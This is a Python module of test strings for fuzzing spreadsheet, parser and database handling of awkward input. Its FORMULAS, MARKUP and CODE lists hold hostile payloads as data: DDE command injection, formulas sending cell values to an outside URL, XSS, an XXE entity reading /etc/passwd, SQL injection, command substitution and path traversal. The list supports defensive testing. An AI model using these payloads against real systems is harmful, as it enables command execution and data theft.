"""Texts that spreadsheets, parsers and databases are known to spoil; none is a secret.

Every one is such as a form takes and as XML can hold.
"""

# Letters that look like others, and many to a line, are what this is for.
# ruff: noqa: RUF001
# fmt: off

BLANKS = [" ", "  ", "\xa0", "\u3000", "\u2003", "\t", "\n", "\t\t"]
WITHOUT_WIDTH = [
    "\u200b", "\u200c", "\u200d", "\u200e", "\u2060", "\ufeff", "\xad",
]

# What may begin a formula, and what stands before it so that it is overlooked.
FORMULAS = [
    *(f"{blank}=1+1" for blank in BLANKS),
    *(f"{sign}=1+1" for sign in WITHOUT_WIDTH),
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)",
    "'=1+1", "''=1+1", "' =1+1", " '=1+1", "’=1+1", '"=1+1"', "`=1+1`", '"=1+1',
    "= 1+1", "==1+1", "=+1", "=-1", "-=1", "+=1", "@=1", "=", "+", "-", "@", "＝",
    "|=1+1", "%=1+1", "{=1+1}", "{=SUM(A1:A2)}", "(=1+1)", "of:=1+1", "oooc:=1+1",
    "=R[-1]C", "=A1", "='List'!A1", "=Text", "=now()", "=TRUE", "=#REF!", "=𠮷",
    "msoxl:=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!'A1'",
    "@SUM(1+9)*cmd|' /C calc'!A0", 'DDE("cmd";"/C calc";"!A0")',
    '=DDE("soffice";"/etc/passwd";"A1")',
    '=HYPERLINK("https://example.org?x="&A1,"press here")',
    '=HYPERLINK("#Sheet2.A1";"here")', '=WEBSERVICE("https://example.org/"&A2)',
    '=IMPORTXML(CONCAT("https://example.org/",A2),"//a")',
    '=IMAGE("https://example.org/x.png")', "=1+1\n=2+2", "x\n=1+1", "x\t=1+1", "x,=1+1",
    "x;=1+1;y", 'x";=1+1;"y', 'x",=1+1,"y', 'x"\n=1+1', "-2+3+cmd|' /C calc'!A0",
    "+82-10-1234-5678", "- 해당 없음", "-", "--", "@mention", "+α",
]

# Signs that a file gives a meaning to.
QUOTES = [
    "'", "''", '"', '""', '"""', "'quoted'", '"quoted"', "'first", "last'", '"first',
    'last"', 'say "yes"', "it's", "''twice''", '""twice""', "`tick`", "‘curly’",
    "“curly”", "«guillemets»", "「鉤」", "『二重』", "＇", "＂", "′", "″", "'0010",
    'a""b', "\"'\"", "'\"'", "''''''''", '""""', "'tis", "rock 'n' roll", "5' 11\"",
]

SEPARATORS = [
    ",", ";", "|", ",,,", ";;;", "a,b", "a;b", "a|b", "a\tb", "a\t\tb", "a, b; c|d",
    "a,b;c\td", '"a","b"', "'a','b'", "a،b", "a、b", "a，b；c", "sep=;", "1,234",
    "a\nb", "a\n\nb", "two\nlines\n", "\nafter", "a\r\nb", "a\rb", "a \n b", "a\u2028b",
    "a\x85b", "a\u2029b", "a  b", "a   b", "a\xa0b", "a\u3000b", "a\u2009b", " before",
    "behind ", "\u3000around\u3000", "\xa0nbsp\xa0", "\ttab", "tab\t", "a\\nb", "a\\tb",
    "\\", "\\\\", "C:\\new\\table", "\\'", '\\"', "\\u0041", "\\x41",
    "a \t b",
]

MARKUP = [
    "<b>bold</b>", "<b>", "</c>", "<>", "a < b > c", "&", "&&", "&amp;", "&amp;amp;",
    "&lt;b&gt;", "&#65;", "&#x41;", "&#0;", "&nbsp;", "&unknown;", "a&b", "]]>", "<!--",
    "<![CDATA[x]]>", "-->", "<?xml?>", "<br/>", "<br>", "<text:p>x</text:p>", "<t/>",
    "<r><t>rich</t></r>", "<r>&</r>", "<r></r>", "</r><r>", "</t></is></c><c>",
    "_x0041_", "_x000D_", "_x000a_", "_x0000_", "_x005F_", "_x005F_x0041_", "_x41_",
    "__x0041__", "_x0041", "x0041_", "_X0041_", "_xD83D__xDE00_", "_xFFFF_",
    "<script>alert(1)</script>", '<img src=x onerror="alert(1)">',
    "javascript:alert(1)", "https://example.org/?a=1&b=2#c",
    "mailto:someone@example.org", "file:///etc/passwd",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "<!ENTITY a 'b'>",
]

CODE = [
    "'; DROP TABLE meetings; --", "' OR '1'='1", "1; SELECT 1", "%' --", "/* x */",
    "{{ 7*7 }}", "{% now 'Y' %}", "${7*7}", "#{7*7}", "{0}", "{name}", "%s", "%d",
    "%(name)s", "%", "100%", "%%", "%n", "%c", "$HOME", "$(id)", "`id`", "; ls", "~",
    "../../etc/passwd", "*", "?", "[a]", "a[0]", "#", "# heading", "#let x", "$x$",
    "*bold*", "_low_", "@label", "//comment", "null\\0", "!important", "^A", "%00",
]

# What is taken for a value of another kind.
NUMBERS = [
    "0", "00", "0010", "007", "1", "-0", "1.0", "1.10", "1.", ".5", "1,5", "1.234,56",
    "1e5", "1E5", "1E+10", "1e-7", "2E3", "12D4", "0x1F", "0b1", "0o17", "1_000",
    "123456789012345", "1234567890123456", "12345678901234567890", "99999999999999999",
    "0.1234567890123456789", "1/2", "½", "⅔", "①", "Ⅻ", "二十", "１２３", "\u0663",
    "+1", "10%", "5.5 %", "$5", "€ 5,00", "₩1,000", "¥100", "￥100", "5원", "(5)",
    "1 000", "010-1234-5678", "+82 10 1234 5678", "(02) 123-4567", "00821012345678",
    "02)123", "+81-90-0000-0000", "０９０－００００－００００", "1-800-CALL",
    "☎ 02-123", "#7",
]

DATES = [
    "1-2", "3/4", "1.2.", "10-11", "2026-10-23", "2026/10/23", "23.10.2026", "5-Mar",
    "Mar-5", "MARCH1", "SEPT2", "Oct 23", "1月2日", "10월 23일", "令和5年", "R5.1.2",
    "2026-10-23T09:30", "2026-10-23 09:30", "9:30", "09:30:00", "24:00", "1:2:3", "금",
    "2026", "1900-01-00", "1900-02-29", "0000-00-00", "20261023", "10/23/26", "'26.1",
]

WORDS = [
    "None", "null", "NULL", "nil", "NaN", "nan", "inf", "-inf", "Infinity", "undefined",
    "void", "N/A", "n/a", "TRUE", "FALSE", "true", "False", "yes", "NO", "on", "off",
    "Y", "真", "#REF!", "#N/A", "#NAME?", "#VALUE!", "#DIV/0!", "#NULL!", "#NUM!",
    "#SPILL!", "########", "Err:502", "(blank)", "(null)", "[]", "{}", "0.0", "없음",
    "未定", "합계", "小計", "Total", "성명", "Name", "Note", "예시", "통역",
    "이하 여백", "※", "CON", "NUL", "COM1", "Sheet1", "A1", "R1C1", "Print_Area", "ID",
    "SYLK", "PK",
]

# What turns the direction, joins or hides: none of it is seen.
DIRECTIONS = [
    "\u202eabc", "abc\u202edef\u202c", "\u200f\u05e2\u05d1\u05e8\u05d9\u05ea",
    "\u2067\u0627\u0644\u0639\u0631\u0628\u064a\u0629\u2069",
    "\u05e2\u05d1\u05e8\u05d9\u05ea 123 abc", "\u200eabc", "a\u061cb",
    "\u0645\u0631\u062d\u0628\u0627",
]

JOINED = [
    "a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "a\ufeffb", "\ufeff", "\u200b",
    "क\u094d\u200dष", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "soft\xadhyphen", "non‑breaking", "a\u034fb", "\u3164", "a\u3164b", "\u115f\u1160",
]

# Two units of UTF-16 each, and what is made of several of them.
ASTRAL = [
    "𠮷野家", "𩸽", "𠀋", "𪚥", "𫝀", "𫠝", "𬺰", "𰀀", "𱁬", "𝒜𝓑", "𝟘", "𐍈", "🀄", "𓀀",
    "😀", "👍🏽", "👩\u200d👩\u200d👧\u200d👦", "🇰🇷🇯🇵🇨🇳", "❤\ufe0f", "1\ufe0f\u20e3",
    "🏴", "a😀b", "😀=1+1", "=😀", "葛\U000e0100城", "辻\U000e0101", "☕\ufe0e",
    "\U0010fffd", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
]

# Composed, taken apart, narrow, wide, and doubled by the standards they are from.
FORMS = [
    "이철우", "\u110b\u1175\u110e\u1165\u11af\u110b\u116e",
    "\u1112\u1161\u11ab\u1100\u1173\u11af", "ㅎㅏㄴ", "\u1100\u1161\u11a8",
    "\u1100\u119e\u11ab", "뷁", "똠방각하", "ﾊﾝｶｸ", "ｶﾞｷﾞ", "がぎぐ",
    "か\u3099き\u3099", "ハ\u309a", "ゟ", "ヿ", "㈱", "㍻", "㍿", "㋿", "Å", "\u212b",
    "A\u030a", "e\u0301", "é", "ñ", "n\u0303", "ﬁ", "ſ", "İ", "ı", "ß", "ẞ", "\uf900",
    "李\uf9e1", "樂\uf914\uf95c\uf9bf", "\ufa0e", "\ufa30", "神\ufa19", "\ufa11",
    "髙橋", "濵田", "邉", "邊", "渡邊", "直", "骨", "强", "強", "戸", "户", "Ω",
    "\u2126", "ｆｕｌｌ\u3000ｗｉｄｔｈ", "Ａ１", "～", "〜", "－", "−", "‐", "—", "・",
    "·", "ㆍ", "﹦1",
]

# Marks upon marks.
STACKED = [
    "Z\u0351\u036b\u0343\u036a\u0302a\u0330\u0331\u0332l\u0489g\u0334o\u0335",
    "ก\u0e47\u0e47\u0e47\u0e47\u0e47", "q\u0307\u0323", "q\u0323\u0307", "1\u20dd",
    "a" + "\u0301" * 30,
]

# As long as most columns are.
LONG = [
    "가" * 200, "x" * 200, "=" * 200, "'" * 200, "0" * 100, "😀" * 100, "e\u0301" * 100,
    "word " * 39 + "words",
]

NAUGHTY = list(dict.fromkeys([
    *FORMULAS, *QUOTES, *SEPARATORS, *MARKUP, *CODE, *NUMBERS, *DATES, *WORDS,
    *DIRECTIONS, *JOINED, *ASTRAL, *FORMS, *STACKED, *LONG,
]))
